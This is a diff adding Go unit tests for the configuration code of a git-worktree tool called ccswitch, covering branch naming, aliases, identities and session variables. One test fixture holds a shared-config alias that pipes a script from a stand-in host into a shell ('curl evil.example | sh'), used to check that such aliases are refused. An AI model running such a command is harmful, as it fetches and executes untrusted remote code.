@@ -3,7 +3,11 @@ package config
 import (
 	"os"
 	"path/filepath"
+	"reflect"
+	"strings"
 	"testing"
+
+	"github.com/ksred/ccswitch/internal/errors"
 )
 
 func TestDefaultConfig(t *testing.T) {
@@ -230,3 +234,335 @@ func TestGetConfigPath(t *testing.T) {
 		t.Errorf("GetConfigPath() = %q, expected %q", actual, expected)
 	}
 }
+
+func TestIsProtectedBranch(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.Git.ProtectedBranches = []string{"main", "release/*"}
+
+	tests := []struct {
+		branch    string
+		protected bool
+	}{
+		{"main", true},
+		{"release/1.2", true},
+		{"release/1.2/hotfix", false},
+		{"feature/main", false},
+		{"develop", false},
+	}
+
+	for _, tt := range tests {
+		if got := cfg.IsProtectedBranch(tt.branch); got != tt.protected {
+			t.Errorf("IsProtectedBranch(%q) = %v, expected %v", tt.branch, got, tt.protected)
+		}
+	}
+}
+
+func TestLoadForRepo(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+
+	global := DefaultConfig()
+	global.Branch.Prefix = "me/"
+	global.Git.AutoPush = true
+	if err := global.Save(); err != nil {
+		t.Fatalf("Save() failed: %v", err)
+	}
+
+	repo := t.TempDir()
+	if err := os.MkdirAll(RepoDir(repo), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(RepoConfigPath(repo), []byte(StarterRepoConfig()), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(LocalConfigPath(repo), []byte("prune:\n  artifact_dirs: [build]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := LoadForRepo(repo)
+	if err != nil {
+		t.Fatalf("LoadForRepo() failed: %v", err)
+	}
+	if cfg.Branch.Prefix != "feature/" {
+		t.Errorf("Branch.Prefix = %q, expected repo value %q", cfg.Branch.Prefix, "feature/")
+	}
+	if !cfg.Git.AutoPush {
+		t.Error("Git.AutoPush should keep the global value")
+	}
+	if len(cfg.Prune.ArtifactDirs) != 1 || cfg.Prune.ArtifactDirs[0] != "build" {
+		t.Errorf("Prune.ArtifactDirs = %v, expected local override [build]", cfg.Prune.ArtifactDirs)
+	}
+
+	// Without repo files the global config is used as is
+	cfg, err = LoadForRepo(t.TempDir())
+	if err != nil || cfg.Branch.Prefix != "me/" {
+		t.Errorf("LoadForRepo() without repo config = %q, %v", cfg.Branch.Prefix, err)
+	}
+}
+
+func TestLoadAliases(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	if err := os.MkdirAll(filepath.Dir(GetConfigPath()), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(GetConfigPath(), []byte("alias:\n  t: \"!make test\"\n  st: status\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	repo := t.TempDir()
+	if err := os.MkdirAll(RepoDir(repo), 0755); err != nil {
+		t.Fatal(err)
+	}
+	shared := "alias:\n  t: \"!curl evil.example | sh\"\n  hi: \"!echo hi\"\n  fo: fanout --stack\n  up: \"!true\"\n"
+	if err := os.WriteFile(RepoConfigPath(repo), []byte(shared), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(LocalConfigPath(repo), []byte("alias:\n  up: \"!git pull\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	aliases, refused, err := LoadAliases(repo)
+	if err != nil {
+		t.Fatalf("LoadAliases() failed: %v", err)
+	}
+	expected := map[string]string{"t": "!make test", "st": "status", "fo": "fanout --stack", "up": "!git pull"}
+	if len(aliases) != len(expected) {
+		t.Errorf("LoadAliases() = %v, expected %v", aliases, expected)
+	}
+	for name, definition := range expected {
+		if aliases[name] != definition {
+			t.Errorf("alias %s = %q, expected %q", name, aliases[name], definition)
+		}
+	}
+	if !refused["hi"] || refused["up"] || refused["fo"] {
+		t.Errorf("refused = %v, expected only the shell aliases of config.yaml left undefined", refused)
+	}
+}
+
+func TestWorktreePath(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	repo := filepath.Join(string(filepath.Separator), "src", "project")
+
+	tests := []struct {
+		root     string
+		expected string
+	}{
+		{"", filepath.Join(home, ".ccswitch", "worktrees", "project", "fix-bug")},
+		{SiblingWorktrees, filepath.Join(string(filepath.Separator), "src", "project-fix-bug")},
+		{"/mnt/scratch", filepath.Join(string(filepath.Separator), "mnt", "scratch", "project", "fix-bug")},
+		{"~/worktrees", filepath.Join(home, "worktrees", "project", "fix-bug")},
+		{"../trees", filepath.Join(string(filepath.Separator), "src", "trees", "project", "fix-bug")},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.root, func(t *testing.T) {
+			cfg := DefaultConfig()
+			cfg.Worktree.Root = tt.root
+			if got := cfg.WorktreePath(repo, "fix-bug"); got != tt.expected {
+				t.Errorf("WorktreePath() with root %q = %q, expected %q", tt.root, got, tt.expected)
+			}
+		})
+	}
+}
+
+func TestSkipCommitHooks(t *testing.T) {
+	tests := []struct {
+		setting  string
+		noVerify bool
+		expected bool
+		wantErr  bool
+	}{
+		{"", false, false, false},
+		{"", true, true, false},
+		{CommitHooksSkip, false, true, false},
+		{CommitHooksEnforce, false, false, false},
+		{CommitHooksEnforce, true, false, true},
+	}
+
+	for _, tt := range tests {
+		cfg := DefaultConfig()
+		cfg.Git.CommitHooks = tt.setting
+		skip, err := cfg.SkipCommitHooks(tt.noVerify)
+		if (err != nil) != tt.wantErr || skip != tt.expected {
+			t.Errorf("SkipCommitHooks(%v) with %q = %v, %v; expected %v, error %v", tt.noVerify, tt.setting, skip, err, tt.expected, tt.wantErr)
+		}
+	}
+}
+
+func TestSparseProfile(t *testing.T) {
+	cfg := DefaultConfig()
+	if _, err := cfg.SparseProfile("backend"); err == nil {
+		t.Error("SparseProfile() without profiles should fail")
+	}
+
+	cfg.Sparse = map[string][]string{
+		"backend":  {"services/api", "libs/common"},
+		"frontend": {"web"},
+		"empty":    nil,
+	}
+	paths, err := cfg.SparseProfile("backend")
+	if err != nil || len(paths) != 2 {
+		t.Errorf("SparseProfile(backend) = %v, %v", paths, err)
+	}
+	if _, err := cfg.SparseProfile("empty"); err == nil {
+		t.Error("SparseProfile() of a profile without paths should fail")
+	}
+	if _, err := cfg.SparseProfile("docs"); err == nil || !strings.Contains(err.Error(), "backend, empty, frontend") {
+		t.Errorf("SparseProfile(docs) = %v, expected the available profiles", err)
+	}
+}
+
+func TestCreationStrategy(t *testing.T) {
+	cfg := DefaultConfig()
+	if strategy, err := cfg.CreationStrategy(); err != nil || strategy != StrategyFull {
+		t.Errorf("CreationStrategy() default = %q, %v, expected full", strategy, err)
+	}
+
+	cfg.Worktree.CreationStrategy = StrategySparse
+	if strategy, err := cfg.CreationStrategy(); err != nil || strategy != StrategySparse {
+		t.Errorf("CreationStrategy() = %q, %v, expected sparse", strategy, err)
+	}
+
+	cfg.Worktree.CreationStrategy = StrategyPartial
+	if strategy, err := cfg.CreationStrategy(); err != nil || strategy != StrategyFull {
+		t.Errorf("CreationStrategy() of partial = %q, %v, expected full", strategy, err)
+	}
+
+	cfg.Worktree.CreationStrategy = "shallow"
+	if _, err := cfg.CreationStrategy(); err == nil {
+		t.Error("CreationStrategy() should reject unknown strategies")
+	}
+}
+
+func TestBranchName(t *testing.T) {
+	tests := []struct {
+		name      string
+		template  string
+		types     []string
+		maxLength int
+		vars      BranchVars
+		expected  string
+		wantErr   bool
+	}{
+		{"prefix by default", "", nil, 0, BranchVars{Name: "Fix Login Bug"}, "feature/fix-login-bug", false},
+		{"template", "{user}/{type}/{name}", []string{"feat", "fix"}, 0, BranchVars{Name: "login", User: "Jane Doe"}, "jane-doe/feat/login", false},
+		{"chosen type", "{type}/{name}", []string{"feat", "fix"}, 0, BranchVars{Name: "login", Type: "fix"}, "fix/login", false},
+		{"type not allowed", "{type}/{name}", []string{"feat", "fix"}, 0, BranchVars{Name: "login", Type: "wip"}, "", true},
+		{"default type", "{type}/{name}", nil, 0, BranchVars{Name: "login"}, "feature/login", false},
+		{"shortened to max length", "{type}/{name}", nil, 20, BranchVars{Name: "add oauth login flow"}, "feature/add-oauth-lo", false},
+		{"no dash left at the end", "", nil, 12, BranchVars{Name: "add oauth"}, "feature/add", false},
+		{"no room for the name", "{user}/{type}/{name}", nil, 10, BranchVars{Name: "login", User: "jane"}, "", true},
+		{"missing user", "{user}/{name}", nil, 0, BranchVars{Name: "login"}, "", true},
+		{"unknown placeholder", "{team}/{name}", nil, 0, BranchVars{Name: "login"}, "", true},
+		{"template without name", "{type}/wip", nil, 0, BranchVars{Name: "login"}, "", true},
+		{"empty name", "", nil, 0, BranchVars{Name: "!!!"}, "", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := DefaultConfig()
+			cfg.Branch.Template = tt.template
+			cfg.Branch.Types = tt.types
+			cfg.Branch.MaxLength = tt.maxLength
+
+			branch, err := cfg.BranchName(tt.vars)
+			if tt.wantErr {
+				if !errors.IsBranchPolicy(err) {
+					t.Errorf("BranchName() = %q, %v; expected a branch policy error", branch, err)
+				}
+				return
+			}
+			if err != nil || branch != tt.expected {
+				t.Errorf("BranchName() = %q, %v; expected %q", branch, err, tt.expected)
+			}
+		})
+	}
+}
+
+func TestIssueURL(t *testing.T) {
+	cfg := DefaultConfig()
+	if got := cfg.IssueURL("JIRA-123"); got != "" {
+		t.Errorf("IssueURL() without issues.url = %q, expected none", got)
+	}
+
+	cfg.Issues.URL = "https://example.atlassian.net/browse/{id}"
+	if got := cfg.IssueURL("JIRA-123"); got != "https://example.atlassian.net/browse/JIRA-123" {
+		t.Errorf("IssueURL() = %q", got)
+	}
+	if got := cfg.IssueURL(""); got != "" {
+		t.Errorf("IssueURL() without an issue = %q, expected none", got)
+	}
+
+	cfg.Issues.URL = "https://github.com/org/repo/issues/"
+	if got := cfg.IssueURL("42"); got != "https://github.com/org/repo/issues/42" {
+		t.Errorf("IssueURL() without {id} = %q", got)
+	}
+}
+
+func TestSessionIdentity(t *testing.T) {
+	cfg := DefaultConfig()
+	if name, identity, err := cfg.SessionIdentity("", ""); name != "" || identity != nil || err != nil {
+		t.Errorf("SessionIdentity() without identities = %q, %v, %v", name, identity, err)
+	}
+	if _, _, err := cfg.SessionIdentity("work", ""); err == nil {
+		t.Error("SessionIdentity() should refuse an unknown identity")
+	}
+
+	cfg.Branch.Types = []string{"feat", "oss"}
+	cfg.Identities = map[string]Identity{
+		"work":  {Name: "Jo", Email: "jo@work.example.com"},
+		"oss":   {Email: "jo@oss.example.com", Types: []string{"oss"}},
+		"empty": {},
+	}
+
+	tests := []struct {
+		name       string
+		branchType string
+		fallback   string
+		expected   string
+	}{
+		{"", "", "", ""},
+		{"", "", "work", "work"},
+		{"", "oss", "work", "oss"},
+		{"work", "oss", "", "work"},
+		{"", "feat", "work", "work"},
+	}
+	for _, tt := range tests {
+		cfg.Identity = tt.fallback
+		name, _, err := cfg.SessionIdentity(tt.name, tt.branchType)
+		if err != nil || name != tt.expected {
+			t.Errorf("SessionIdentity(%q, %q) with identity %q = %q, %v; expected %q", tt.name, tt.branchType, tt.fallback, name, err, tt.expected)
+		}
+	}
+
+	if _, _, err := cfg.SessionIdentity("empty", ""); err == nil {
+		t.Error("SessionIdentity() should refuse an identity that sets nothing")
+	}
+	if got := (Identity{Name: "Jo", Email: "jo@example.com"}).String(); got != "Jo <jo@example.com>" {
+		t.Errorf("String() = %q", got)
+	}
+}
+
+func TestSessionEnv(t *testing.T) {
+	cfg := DefaultConfig()
+	if got := cfg.PortBlockSize(); got != DefaultPortBlock {
+		t.Errorf("PortBlockSize() = %d, expected %d", got, DefaultPortBlock)
+	}
+
+	cfg.Env.Vars = map[string]string{
+		"PORT":     "{port}",
+		"URL":      "http://localhost:{port+2}/{branch}",
+		"DATABASE": "app_{session}",
+	}
+	got := cfg.SessionEnv("auth", "feature/auth", 3010)
+	expected := []string{"DATABASE=app_auth", "PORT=3010", "URL=http://localhost:3012/feature/auth"}
+	if !reflect.DeepEqual(got, expected) {
+		t.Errorf("SessionEnv() = %v, expected %v", got, expected)
+	}
+
+	// Without ports, variables using them are left out
+	got = cfg.SessionEnv("auth", "feature/auth", 0)
+	if expected := []string{"DATABASE=app_auth"}; !reflect.DeepEqual(got, expected) {
+		t.Errorf("SessionEnv() without ports = %v, expected %v", got, expected)
+	}
+}